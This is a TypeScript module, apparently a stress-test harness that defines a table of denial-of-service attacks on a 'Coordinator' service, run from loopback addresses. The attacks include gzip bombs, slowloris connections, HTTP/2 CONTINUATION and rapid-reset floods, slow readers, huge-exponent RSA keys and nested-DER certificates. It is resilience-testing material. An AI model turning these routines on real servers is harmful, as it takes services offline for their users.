import { generateKeyPairSync } from "node:crypto";
import { once } from "node:events";
import { connect as connectTls } from "node:tls";
import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { create, toBinary } from "@bufbuild/protobuf";
import { ClientHelloSchema } from "../../api/channel_pb.ts";
import { sha256Hex } from "../../bytes/sha256.ts";
import { proveClientKey } from "../../channel/client-key.ts";
import { ALPN, exporterOf } from "../../channel/tls.ts";
import { spki } from "../../pki/keys.ts";
import { hugeExponentChain } from "./huge-exponents.ts";
import { call, keys, message, open, openChannel, openSession, openTls, PORTS } from "./target.ts";

/** What strangers do to a Coordinator. Each attack goes on until it is told to end. */
export type Attack = (target: string, end: AbortSignal) => Promise<void>;

const MIB = 2 ** 20;
const SET = "/userapi.UserAPI/SetManifest";
const READ = "/userapi.UserAPI/GetManifests";

/** Where a crowd of one address comes from, and where one of several does. */
const CROWD = "127.96.1.1";
const crowdOf = (addresses: number, index: number): string => `127.96.2.${1 + (index % addresses)}`;

/** Fields of two bytes that nobody knows. */
const UNKNOWN = Buffer.alloc(15.9 * MIB, Buffer.of(0x78, 0x00));

/** As many at once as there are, again and again, until the end. */
async function again(end: AbortSignal, atOnce: number, attempt: (index: number) => Promise<unknown>): Promise<void> {
  let index = 0;
  const one = async (): Promise<void> => {
    while (!end.aborted) await attempt(index++).catch(() => undefined);
  };
  await Promise.all(Array.from({ length: atOnce }, one));
}

/** Keeps it until the other side ends it, or the attack is over. */
async function keep(
  socket: { readonly destroyed: boolean; destroy(): unknown; once(name: "close", then: () => void): unknown },
  end: AbortSignal,
): Promise<void> {
  if (!socket.destroyed && !end.aborted) {
    await new Promise<void>((resolve) => {
      socket.once("close", resolve);
      end.addEventListener("abort", () => resolve());
    });
  }
  socket.destroy();
}

function largeCalls(addresses: number, body: Buffer, headers: Readonly<Record<string, string>> = {}): Attack {
  return (target, end) =>
    again(end, 8, async (index) => {
      const session = await openSession(target, crowdOf(addresses, index));
      if (session === undefined) return delay(20);
      const stream = call(session, SET, headers);
      stream.end(body);
      stream.resume();
      await Promise.race([once(stream, "close"), delay(3000)]);
      session.destroy();
    });
}

/** Calls that begin and do not end, from so many addresses with so many connections each. */
function unfinishedCalls(addresses: number, connections: number, path: string, length: number): Attack {
  return (target, end) =>
    again(end, addresses * connections, async (index) => {
      const session = await openSession(target, crowdOf(addresses, index));
      if (session === undefined) return delay(50);
      for (let streams = 0; streams < 2; streams++) {
        const stream = call(session, path);
        stream.write(message(Buffer.alloc(Math.min(length, 60_000)), { length }));
        stream.resume();
      }
      await keep(session, end);
    });
}

/** First messages of the exchange, to either port, byte for byte as they are given. */
function hellos(port: number, connections: number, bytes: Buffer, announced = bytes.length): Attack {
  return (target, end) =>
    again(end, connections, async () => {
      const tls = await openTls(target, port, CROWD);
      if (tls === undefined) return delay(20);
      const head = Buffer.alloc(4);
      head.writeUInt32BE(announced);
      tls.write(Buffer.concat([head, bytes]));
      await keep(tls.resume(), end);
    });
}

/** A hello that proves its key, with evidence that is none. */
function evidence(certificates: Buffer[], report = Buffer.alloc(0x4a0)): Attack {
  return (target, end) =>
    again(end, 16, async () => {
      const tls = await openTls(target, PORTS.mesh, CROWD);
      if (tls === undefined) return delay(20);
      const value = { report, certificates };
      const hello = create(ClientHelloSchema, {
        evidence: { kind: { case: "snp", value } },
        ...proveClientKey(keys, exporterOf(tls)),
      });
      const body = Buffer.from(toBinary(ClientHelloSchema, hello));
      const head = Buffer.alloc(4);
      head.writeUInt32BE(body.length);
      tls.write(Buffer.concat([head, body]));
      await keep(tls.resume(), end);
    });
}

function silent(addresses: number, connections: number, greeting: Buffer, port: number): Attack {
  return (target, end) =>
    again(end, connections, async (index) => {
      const socket = await open(target, port, addresses === 1 ? CROWD : crowdOf(addresses, index));
      if (socket === undefined) return delay(50);
      socket.write(greeting);
      await keep(socket.resume(), end);
    });
}

/** Frames of HTTP/2 without a library: type, flags, stream, payload (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0)]);

/** So many frames, again and again, on connections that were accepted. */
function frames(make: (index: number) => Buffer): Attack {
  return (target, end) =>
    again(end, 12, async () => {
      const channel = await openChannel(target, CROWD);
      if (channel === undefined) return delay(20);
      channel.resume();
      channel.write(PREFACE);
      for (let index = 0; !channel.destroyed && !end.aborted; index += 100) {
        const batch = Buffer.concat(Array.from({ length: 100 }, (_, offset) => make(index + offset)));
        await new Promise((resolve) => channel.write(batch, resolve));
      }
      channel.destroy();
    });
}

/** `:method: POST`, `:scheme: http`, `:path: /`, `:authority: a`, and nothing that would make it a call (RFC 7541, appendix A). */
const SHORT_HEADERS = Buffer.of(0x83, 0x86, 0x84, 0x01, 0x01, 0x61);

/** One request of HTTP/1.1 after another, of which the answers are not read. */
function unread(port: number, connections: number, request: Buffer): Attack {
  return (target, end) =>
    again(end, connections, async () => {
      const socket = await open(target, port, CROWD);
      if (socket === undefined) return delay(20);
      socket.pause();
      socket.write(request);
      await keep(socket, end);
    });
}

const NEST = (depth: number): Buffer => {
  let der: Buffer = Buffer.alloc(0);
  for (let level = 0; level < depth; level++) {
    const { length } = der;
    const head = length < 0x80 ? [length] : length < 0x100 ? [0x81, length] : [0x82, length >> 8, length & 0xff];
    der = Buffer.concat([Buffer.of(0x30, ...head), der]);
  }
  return der;
};

/** RSA of 16384 bits whose exponent is as long: what OpenSSL would take a second for. */
function hugeKey(): Buffer {
  const { publicKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
  const der = spki(publicKey);
  return Buffer.concat([der.subarray(0, 24), Buffer.alloc(2048, 0xff)]);
}

/** What OpenSSL takes long to verify, if it is let. */
function costlyChains(port: number): Attack {
  return (target, end) => {
    const { key, pem } = hugeExponentChain();
    const secret = key.export({ type: "pkcs8", format: "pem" });
    return again(end, 10, async () => {
      const socket = await open(target, port, CROWD);
      const tls = connectTls({ socket, key: secret, cert: pem, ALPNProtocols: [ALPN], rejectUnauthorized: false });
      tls.on("error", () => undefined);
      // A client of TLS 1.3 is done before the server has looked at its certificates.
      await Promise.race([once(tls, "close"), delay(1000)]);
      tls.destroy();
    });
  };
}

const TRANSIT_HEAD = "POST /v1/transit/decrypt/web HTTP/1.1\r\nhost: a\r\ncontent-length: 90000\r\n\r\n";

const JSON_NONCE = JSON.stringify({ nonce: "00".repeat(32) });
const NONCE = `POST /v1/attest HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: ${JSON_NONCE.length}\r\n\r\n${JSON_NONCE}`;

/** The longest document of the history of the Coordinator that is attacked. */
const LONG_POLICY = `GET /v1/policies/${sha256Hex(Buffer.from("x".repeat(2 ** 21)))} HTTP/1.1\r\nhost: a\r\n\r\n`;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "one call whose 16 KB of gzip are 15.9 MiB of two-byte fields": largeCalls(
    4,
    message(gzipSync(UNKNOWN, { level: 9 }), { isCompressed: true }),
    { "grpc-encoding": "gzip" },
  ),
  "the same, and nothing in the headers says so": largeCalls(
    4,
    message(gzipSync(UNKNOWN, { level: 9 }), { isCompressed: true }),
  ),
  "the same fields uncompressed": largeCalls(4, message(UNKNOWN)),
  "9 MiB of two-byte fields": largeCalls(8, message(UNKNOWN.subarray(0, 9 * MIB))),
  "32 connections of eight addresses with two unfinished calls of 9 MiB": unfinishedCalls(8, 4, SET, 9 * MIB),
  "16 connections with two unfinished calls of 16 MiB": unfinishedCalls(4, 4, SET, 16 * MIB),
  "first messages of 1 MiB of unknown fields": hellos(PORTS.mesh, 12, UNKNOWN.subarray(0, MIB)),
  "first messages of 128 KiB of unknown fields": hellos(PORTS.mesh, 100, UNKNOWN.subarray(0, 128 * 1024)),
  "1,000 connections of one address with 64 KiB of a message each": hellos(
    PORTS.mesh,
    1000,
    Buffer.alloc(64 * 1024),
    128 * 1024,
  ),
  "a certificate chain of RSA keys with huge exponents": costlyChains(PORTS.user),
  "the same at the transit port, which asks for certificates": costlyChains(PORTS.transit),
  "silence at the transit port, 2,000 connections of four addresses": silent(4, 2000, Buffer.alloc(0), PORTS.transit),
  "requests of strangers to the transit port": (target, end) =>
    again(end, 64, async (index) => {
      const socket = await open(target, PORTS.transit, crowdOf(4, index));
      if (socket === undefined) return delay(20);
      const tls = connectTls({ socket, rejectUnauthorized: false });
      tls.on("error", () => undefined).resume();
      tls.write(TRANSIT_HEAD);
      tls.write(Buffer.alloc(90_000, "A"));
      await Promise.race([once(tls, "close"), delay(2000)]);
      tls.destroy();
    }),
  "nonces for evidence over HTTP, one after another, of 64 connections of four addresses": (target, end) =>
    again(end, 64, async (index) => {
      const socket = await open(target, PORTS.attest, crowdOf(4, index));
      if (socket === undefined) return delay(20);
      socket.resume();
      const asking = setInterval(() => socket.write(NONCE), 100);
      await keep(socket, end);
      clearInterval(asking);
    }),
  "slow readers of answers and of 2 MiB over HTTP": (target, end) =>
    again(end, 256, async (index) => {
      const socket = await open(target, PORTS.attest, crowdOf(8, index));
      if (socket === undefined) return delay(20);
      // Up to here it reads, so that the kernel gives the connection room.
      let read = 0;
      socket.on("data", (bytes: Buffer) => ((read += bytes.length) > 512 * 1024 ? socket.pause() : undefined));
      socket.write(index % 2 === 0 ? LONG_POLICY : NONCE);
      if (index % 2 === 1) socket.pause();
      await keep(socket, end);
    }),
  "keys of RSA with a huge exponent in first messages": hellos(
    PORTS.user,
    16,
    Buffer.concat([Buffer.of(0x1a, 0x98, 0x10), hugeKey()]),
  ),
  "32 connections of two addresses with unfinished calls": unfinishedCalls(2, 32, READ, 100),
  "100 connections of one address with unfinished calls": unfinishedFrom(CROWD, 100),
  "slow readers of the history": slowReaders(0),
  "slow readers of the history who leave the kernel to keep it": slowReaders(2 ** 31 - 1 - 65_535),
  "slow readers of the metrics": unread(PORTS.probes, 200, Buffer.from("GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n")),
  "many readers of the metrics": unread(
    PORTS.probes,
    20,
    Buffer.from("GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n".repeat(1000)),
  ),
  "silence, 4,000 connections of four addresses": silent(4, 4000, Buffer.alloc(0), PORTS.user),
  "first messages of TLS that do not end, 2,000 of one address": silent(
    1,
    2000,
    Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]),
    PORTS.mesh,
  ),
  "first messages of TLS in records of one byte": silent(
    1,
    500,
    Buffer.concat(Array.from({ length: 500 }, (_, index) => Buffer.of(22, 3, 1, 0, 1, index === 0 ? 1 : 0))),
    PORTS.mesh,
  ),
  "handshakes and nothing after them": (target, end) =>
    again(end, 64, async (index) => {
      const tls = await openTls(target, index % 2 === 0 ? PORTS.user : PORTS.mesh, CROWD);
      tls?.destroy();
    }),
  "records of TLS of one byte": (target, end) =>
    again(end, 32, async () => {
      const channel = await openChannel(target, CROWD);
      if (channel === undefined) return delay(20);
      channel.resume();
      channel.write(PREFACE);
      // The beginning of a frame that is never whole, each byte in a record.
      const bytes = frame(0, 0, 1, Buffer.alloc(16_000));
      for (const byte of bytes) {
        if (channel.destroyed || end.aborted) break;
        await new Promise((resolve) => channel.write(Buffer.of(byte), resolve));
      }
      channel.destroy();
    }),
  "PING frames": frames(() => frame(6, 0, 0, Buffer.alloc(8))),
  "SETTINGS frames": frames(() => frame(4, 0, 0)),
  "CONTINUATION frames": frames((index) =>
    index === 0 ? frame(1, 0, 1, SHORT_HEADERS) : frame(9, 0, 1, Buffer.of(0x00, 1, 0x61, 1, 0x62)),
  ),
  "streams that are reset at once": frames((index) =>
    Buffer.concat([frame(1, 4, 2 * index + 1, SHORT_HEADERS), frame(3, 0, 2 * index + 1, Buffer.alloc(4))]),
  ),
  "empty DATA frames": frames((index) => (index === 0 ? frame(1, 4, 1, SHORT_HEADERS) : frame(0, 0, 1))),
  "65,000 certificates of zero bytes": evidence(Array.from({ length: 65_000 }, () => Buffer.alloc(0))),
  "a certificate of DER in DER in DER": evidence([NEST(20_000)]),
  "certificates of 120 KiB": evidence([Buffer.alloc(120_000, 0x30)]),
};

/** HEADERS of a call that asks for the history, each field as it is (RFC 7541 §6.2.2), and DATA of its empty request. */
function readCall(stream: number): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);
  const headers = Buffer.concat([
    Buffer.of(0x83, 0x86, 0x01, 0x01, 0x61, 0x04),
    text(READ),
    Buffer.of(0x0f, 0x10),
    text("application/grpc"),
  ]);
  return Buffer.concat([frame(1, 4, stream, headers), frame(0, 1, stream, message(Buffer.alloc(0)))]);
}

/** @param window more than a stream and its connection have, which is 64 KiB */
function slowReaders(window: number): Attack {
  const increment = Buffer.alloc(4);
  increment.writeUInt32BE(window);
  const settings = Buffer.alloc(6);
  // SETTINGS_INITIAL_WINDOW_SIZE, for all streams.
  settings.writeUInt16BE(4);
  settings.writeUInt32BE(2 ** 31 - 1, 2);
  const wide = window === 0 ? Buffer.alloc(0) : Buffer.concat([frame(4, 0, 0, settings), frame(8, 0, 0, increment)]);
  return (target, end) =>
    again(end, 64, async (index) => {
      const channel = await openChannel(target, crowdOf(4, index));
      if (channel === undefined) return delay(20);
      channel.pause();
      channel.write(Buffer.concat([PREFACE, wide, readCall(1), readCall(3)]));
      await keep(channel, end);
    });
}

function unfinishedFrom(address: string, connections: number): Attack {
  return (target, end) =>
    again(end, connections, async () => {
      const session = await openSession(target, address);
      if (session === undefined) return delay(50);
      const stream = call(session, READ);
      stream.write(message(Buffer.alloc(10), { length: 100 }));
      await keep(session, end);
    });
}
